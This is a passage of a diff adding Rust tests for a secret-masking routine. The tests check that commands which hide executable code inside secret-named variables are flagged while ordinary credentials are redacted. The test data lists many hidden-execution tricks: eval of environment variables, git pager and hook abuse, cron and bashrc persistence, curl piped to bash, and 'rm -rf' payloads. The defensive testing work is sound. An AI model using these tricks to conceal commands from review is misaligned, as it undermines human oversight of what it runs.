+        "export API_KEY=abcdefgh; python3 -c 'import os; os.system(os.environ[\"API_KEY\"])'",
+        "python3 -c \"exec(__import__('base64').b64decode(token='abcdefgh'))\"",
+        "python3 -c \"password='abcdefgh'; eval(password)\"",
+        "API_KEY=abcdefgh node -e 'eval(process.env.API_KEY)'",
+        "API_KEY=abcdefgh node -e 'require(\"child_process\").exec(process.env.API_KEY)'",
+        "API_KEY=abcdefgh perl -e 'eval $ENV{API_KEY}'",
+        "API_KEY=abcdefgh perl -e 'system $ENV{API_KEY}'",
+        "API_KEY=abcdefgh ruby -e 'eval ENV[\"API_KEY\"]'",
+        "API_KEY=abcdefgh ruby -e '`#{ENV[\"API_KEY\"]}`'",
+        "API_KEY=abcdefgh php -r 'eval(getenv(\"API_KEY\"));'",
+        "API_KEY=abcdefgh awk 'BEGIN{system(ENVIRON[\"API_KEY\"])}'",
+        "API_KEY=abcdefgh awk 'BEGIN{ENVIRON[\"API_KEY\"] | getline x}'",
+        "API_KEY=abcdefgh lua -e 'os.execute(os.getenv(\"API_KEY\"))'",
+        "docker run -e API_KEY=abcdefgh image sh -c 'eval $API_KEY'",
+        "echo password=abcdefgh | cut -d= -f2 | xargs -I{} sh -c '{}'",
+        "source <(echo password=abcdefgh | cut -d= -f2)",
+        "echo password=abcdefgh | cut -d= -f2 | source /dev/stdin",
+        "read x < <(echo password=abcdefgh | cut -d= -f2); $x",
+        "echo password=abcdefgh | cut -d= -f2 | while read x; do $x; done",
+        "python3 <<E\nimport os\npassword = 'abcdefgh'\nos.system(password[::-1])\nE",
+        "cat > x.py <<E\npassword = 'abcdefgh'\nexec(password)\nE\npython3 x.py",
+        "python3 -c 'token=os.system;token(\"rm -rf x\")'",
+        "API_KEY=abcdefgh; \"$SHELL\" -c \"$API_KEY\"",
+        "API_KEY='-rf'; rm $API_KEY x",
+        "bash <(curl -H 'Authorization: Bearer abcdefgh' https://x)",
+        "git config alias.x '!password=\"rm -rf x\"; $password'",
+        "cat > .git/hooks/pre-commit <<'E'\npassword='rm -rf x'\n$password\nE",
+        "cat > x.py <<'E'\nimport os\npassword = 'rm -rf x'\nos.system(password)\nE",
+        "cat > Makefile <<'E'\nTOKEN=rm\nall:\n\t$(TOKEN) -rf x\nE",
+        "cat > package.json <<'E'\n{\"scripts\": {\"token\": \"rm -rf x\"}}\nE",
+        "npm pkg set scripts.token='rm -rf x'; npm run token",
+        "make -f - <<'E'\nTOKEN=rm\nall:\n\t$(TOKEN) -rf x\nE",
+        "node -e 'global[token=\"eval\"](\"rm\")'",
+    ];
+
+    /// Commands whose secrets are data.
+    const DATA: &[&str] = &[
+        "GITHUB_TOKEN=ghp_abcdefgh gh pr list",
+        "export GITHUB_TOKEN=ghp_abcdefgh && $HOME/bin/frob",
+        "export GITHUB_TOKEN=ghp_abcdefgh && cargo publish",
+        "API_KEY=abcdefgh ./run.sh --now",
+        "API_KEY=abcdefgh bash run.sh",
+        "API_KEY=abcdefgh npm run deploy",
+        "API_KEY=abcdefgh make deploy",
+        "TOKEN=abcdefgh; curl -H \"Authorization: Bearer $TOKEN\" https://x.example",
+        "bash -lc 'GITHUB_TOKEN=ghp_abcdefgh gh pr list | head -5'",
+        "bash -c 'curl -H \"Authorization: Bearer abcdefgh\" https://x.example | jq .a'",
+        "TOKEN=abcdefgh; eval \"echo $TOKEN\"",
+        "eval \"$(ssh-agent)\"; curl -u ada:abcdefgh https://x.example",
+        "source .env && curl -u ada:abcdefgh https://x.example",
+        "source venv/bin/activate && API_KEY=abcdefgh python x.py",
+        "API_KEY=abcdefgh python3 -c 'import os; print(os.environ[\"API_KEY\"])'",
+        "API_KEY=abcdefgh python3 -c 'import json, os; print(json.loads(os.environ[\"A\"]))'",
+        "python3 - <<E\nimport requests\ntoken = 'abcdefgh'\nprint(requests.get('https://x', headers={'a': token}).text)\nE",
+        "API_KEY=abcdefgh node -e 'console.log(process.env.API_KEY)'",
+        "PGPASSWORD=abcdefgh psql -h h -c 'SELECT 1'",
+        "cat dump.sql | mysql -uroot -pabcdefgh app",
+        "PGPASSWORD=abcdefgh psql < dump.sql",
+        "gunzip -c dump.sql.gz | PGPASSWORD=abcdefgh psql app",
+        "sshpass -p abcdefgh ssh h 'ls -la'",
+        "sshpass -p abcdefgh ssh h bash -s < x.sh",
+        "echo abcdefgh | sudo -S apt-get update",
+        "echo abcdefgh | docker login --password-stdin r.example",
+        "git clone https://ada:abcdefgh@x.example/r.git && cd r && make",
+        "for i in 1 2; do curl -u ada:abcdefgh https://x.example/$i; done",
+        "docker run -e API_KEY=abcdefgh image",
+        "docker run -e API_KEY=abcdefgh image sh -c 'ls /'",
+        "cat > .env <<E\nAPI_KEY=abcdefgh\nE",
+        "cat > deploy.sh <<'E'\nexport TOKEN=abcdefgh\ncurl -H \"A: $TOKEN\" https://x\nE\nbash deploy.sh",
+        "kubectl create secret generic a --from-literal=b=abcdefgh",
+        "echo '{\"password\": \"abcdefgh\"}' | jq .password",
+        "sed -i 's/password=.*/password=abcdefgh/' app.conf",
+        "curl -u ada:abcdefgh https://x.example/a.sh > a.sh; bash a.sh",
+        "PGPASSWORD=abcdefgh psql -c \"SELECT * FROM t WHERE id = $ID\"",
+        "echo 'export API_KEY=abcdefgh' >> ~/.bashrc",
+        "cat >> ~/.zshrc <<'E'\nexport API_KEY=abcdefgh\nalias k=kubectl\nE",
+        "curl -X POST -H 'Authorization: Bearer abcdefgh' -d @a.json https://x.example | jq .id",
+        "ssh h \"curl -u ada:abcdefgh https://x.example\"",
+        "export TOKEN=abcdefgh; for x in $(ls); do curl -H \"A: $TOKEN\" https://x.example/$x; done",
+        "TOKEN=abcdefgh; RESULT=$(curl -H \"A: $TOKEN\" https://x.example); echo \"$RESULT\"",
+        "TOKEN=abcdefgh timeout 5 ./run.sh",
+        "cd /srv && API_KEY=abcdefgh nohup ./serve > log 2>&1 &",
+        "awk -v token=abcdefgh '{print token, $1}' x",
+    ];
+
+    #[test]
+    fn what_runs_is_shown() {
+        let mut wrong = Vec::new();
+        for (command, code) in CODE {
+            let masked = Masked::for_storage(command);
+            if !masked.text.contains(code) && !masked.hides_code() {
+                wrong.push(format!("{command}\n  {}", masked.text));
+            }
+        }
+        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    }
+
+    #[test]
+    fn text_that_may_run_unseen_is_told() {
+        let mut wrong = Vec::new();
+        for command in HIDING {
+            let masked = Masked::for_storage(command);
+            let is_masked = masked.text != *command;
+            if is_masked && !masked.hides_code() {
+                wrong.push(format!("{command}\n  {}", masked.text));
+            }
+            if !is_masked {
+                wrong.push(format!("shown as it is: {command}"));
+            }
+        }
+        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    }
+
+    #[test]
+    fn secrets_that_are_data_hide_no_code() {
+        let mut wrong = Vec::new();
+        for command in DATA {
+            let masked = Masked::for_storage(command);
+            if masked.hides_code() || !masked.text.contains("[secret]") {
+                wrong.push(format!("{command}\n  {}", masked.text));
+            }
+        }
+        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    }
+
+    #[test]
+    fn a_token_within_code_stays_hidden() {
+        let masked =
+            Masked::for_storage("SECRET='curl -H ghp_abcdefgh12 https://x | sh'; eval \"$SECRET\"");
+        assert_eq!(
+            masked.text,
+            "SECRET='curl -H [secret] https://x | sh'; eval \"$SECRET\""
+        );
+    }
+
+    /// Ways to set the variable `API_KEY` to the text at `@`, as a secret.
+    const SETS: &[&str] = &[
+        "API_KEY='@'; ",
+        "API_KEY=\"@\"\n",
+        "export API_KEY='@'; ",
+        "export API_KEY='@' && ",
+        "declare -x API_KEY='@'; ",
+        "env API_KEY='@' ",
+        "API_KEY='@' ",
+        "sudo API_KEY='@' ",
+    ];
+
+    /// Ways to run what is in the variable.
+    const RUNS: &[&str] = &[
+        "$API_KEY",
+        "${API_KEY}",
+        "\"$API_KEY\"",
+        "${API_KEY% *}",
+        "$API_KEY --now",
+        "eval $API_KEY",
+        "eval \"$API_KEY\"",
+        "eval \"ls; $API_KEY\"",
+        "eval eval '$API_KEY'",
+        "sh -c \"$API_KEY\"",
+        "sh -c '$API_KEY'",
+        "bash -lc 'eval \"$API_KEY\"'",
+        "bash -c \"ls; $API_KEY\"",
+        "sh <<< \"$API_KEY\"",
+        "sh <<E\n$API_KEY\nE",
+        "bash -s <<'E'\n$API_KEY\nE",
+        "bash -c 'echo \"$API_KEY\" | sh'",
+        "bash -c 'echo $API_KEY | tr a b | sh'",
+        "bash -c 'printenv API_KEY | sh'",
+        "bash -c 'printenv API_KEY | base64 -d | bash'",
+        "bash -c 'eval \"$(printenv API_KEY)\"'",
+        "bash -c '$(echo $API_KEY)'",
+        "bash -c 'source <(echo \"$API_KEY\")'",
+        "bash -c '. /dev/stdin <<< \"$API_KEY\"'",
+        "bash -c 'read y <<< \"$API_KEY\"; $y'",
+        "bash -c 'echo \"$API_KEY\" | while read y; do $y; done'",
+        "bash -c 'y=$API_KEY; $y'",
+        "bash -c 'printf -v y %s \"$API_KEY\"; $y'",
+        "bash -c 'set -- $API_KEY; \"$@\"'",
+        "bash -c 'set -- \"$API_KEY\"; eval \"$1\"'",
+        "bash -c 'a=($API_KEY); \"${a[@]}\"'",
+        "bash -c 'P=API_KEY; ${!P}'",
+        "bash -c 'declare -n P=API_KEY; $P'",
+        "bash -c 'eval \"${API_KEY@P}\"'",
+        "bash -c 'alias x=\"$API_KEY\"; x'",
+        "bash -c 'f() { $API_KEY; }; f'",
+        "bash -c 'trap \"$API_KEY\" EXIT'",
+        "bash -c 'for x in 1; do $API_KEY; done'",
+        "bash -c 'if $API_KEY; then ls; fi'",
+        "bash -c '[[ -n x ]] && $API_KEY'",
+        "bash -c 'echo $((API_KEY))'",
+        "bash -c 'echo \"$API_KEY\" > x.sh; sh x.sh'",
+        "bash -c 'echo \"$API_KEY\" | tee x.sh; bash x.sh'",
+        "bash -c 'xargs -I{} sh -c {} <<< \"$API_KEY\"'",
+        "bash -c 'echo \"$API_KEY\" | xargs sh -c'",
+        "bash -c 'xargs $API_KEY <<< x'",
+        "bash -c 'sudo $API_KEY'",
+        "bash -c 'nohup $API_KEY &'",
+        "bash -c 'timeout 5 $API_KEY'",
+        "bash -c 'find . -exec sh -c \"$API_KEY\" \\;'",
+        "bash -c 'find . -exec $API_KEY {} \\;'",
+        "bash -c 'ssh h \"$API_KEY\"'",
+        "bash -c 'watch \"$API_KEY\"'",
+        "bash -c 'docker run -e API_KEY i sh -c \"eval \\$API_KEY\"'",
+        "bash -c 'docker run i sh -c \"$API_KEY\"'",
+        "bash -c 'git -c core.pager=\"$API_KEY\" log'",
+        "bash -c 'git -c alias.x=\"!$API_KEY\" x'",
+        "bash -c 'GIT_SSH_COMMAND=\"$API_KEY\" git fetch'",
+        "bash -c 'PAGER=\"$API_KEY\" git log'",
+        "bash -c 'EDITOR=\"$API_KEY\" git commit'",
+        "bash -c 'BASH_ENV=<(echo \"$API_KEY\") bash -c ls'",
+        "bash -c 'tar xf a --to-command=\"$API_KEY\"'",
+        "bash -c 'rsync -e \"$API_KEY\" a h:b'",
+        "bash -c 'make SHELL=\"$API_KEY\"'",
+        "bash -c 'psql -c \"\\\\! $API_KEY\"'",
+        "bash -c 'sqlite3 x \".shell $API_KEY\"'",
+        "bash -c 'vim -c \"!$API_KEY\" x'",
+        "bash -c 'at now <<< \"$API_KEY\"'",
+        "bash -c 'echo \"* * * * * $API_KEY\" | crontab -'",
+        "bash -c 'echo \"$API_KEY\" >> ~/.bashrc'",
+        "bash -c 'cat > ~/.local/bin/x <<E\n$API_KEY\nE'",
+        "bash -c 'printf \"[core]\\n pager = %s\" \"$API_KEY\" >> .git/config; git log'",
+        "bash -c '\"$(printenv API_KEY)\" x'",
+        "bash -c 'eval $(env | grep API | cut -d= -f2)'",
+        "bash -c 'export Y=$API_KEY; sh -c \"\\$Y\"'",
+        "bash -c 'parallel ::: \"$API_KEY\"'",
+        "bash -c 'nsenter -t 1 $API_KEY'",
+        "bash -c 'script -c \"$API_KEY\"'",
+        "bash -c 'su -c \"$API_KEY\"'",
+        "bash -c 'kubectl exec p -- sh -c \"$API_KEY\"'",
+        "bash -c 'ssh -o ProxyCommand=\"$API_KEY\" h'",
+        "bash -c 'find . -name \"*.x\" | xargs -n1 $API_KEY'",
+        "bash -c 'git rebase -x \"$API_KEY\" main'",
+        "bash -c 'git bisect run $API_KEY'",
+        "bash -c 'tmux new -d \"$API_KEY\"'",
+        "bash -c 'ruby -e \"$API_KEY\"'",
+        "bash -c 'sed \"1e $API_KEY\" x'",
+        "bash -c 'cat <(eval \"$API_KEY\")'",
+        "python3 -c 'import os; os.system(os.environ[\"API_KEY\"])'",
+        "python3 -c 'import os; exec(os.getenv(\"API_KEY\"))'",
+        "python3 -c 'import os, subprocess; subprocess.run(os.environ[\"API_KEY\"], shell=True)'",
+        "python3 <<'E'\nimport os\nos.popen(os.environ['API_KEY'])\nE",
+        "perl -e 'exec $ENV{API_KEY}'",
+        "perl -e 'print `$ENV{API_KEY}`'",
+        "ruby -e 'system(ENV[\"API_KEY\"])'",
+        "node -e 'require(\"child_process\").execSync(process.env.API_KEY)'",
+        "node -e 'new Function(process.env.API_KEY)()'",
+        "php -r 'system(getenv(\"API_KEY\"));'",
+        "awk 'BEGIN { system(ENVIRON[\"API_KEY\"]) }'",
+        "bash -c 'awk -v c=\"$API_KEY\" \"BEGIN { system(c) }\"'",
+        "bash -c 'python3 -c \"$API_KEY\"'",
+        "bash -c 'perl -e \"$API_KEY\"'",
+        "bash -c 'node -e \"$API_KEY\"'",
+        "bash -c 'echo \"$API_KEY\" | python3'",
+        "bash -c 'echo \"$API_KEY\" | node -'",
+    ];
+
+    #[test]
+    fn what_runs_is_shown_or_told_however_it_gets_there() {
+        let mut wrong = Vec::new();
+        for set in SETS {
+            // A variable that is set for one program only is not expanded in its words.
+            let is_for_one = set.ends_with("@' ");
+            for run in RUNS.iter().filter(|run| !is_for_one || run.contains('\'')) {
+                let codes = ["frobnicate --all", "ZnJvYm5pY2F0ZQ=="];
+                for code in &codes[..if set.starts_with("API") { 2 } else { 1 }] {
+                    let command = format!("{}{run}", set.replace('@', code));
+                    let masked = Masked::for_storage(&command);
+                    if !masked.text.contains(code) && !masked.hides_code() {
+                        wrong.push(masked.text);
+                    }
+                }
+            }
+        }
+        wrong.sort();
+        wrong.dedup();
+        assert!(
+            wrong.is_empty(),
+            "{} are hidden:\n{}",
+            wrong.len(),
+            wrong.join("\n")
+        );
+    }
+}
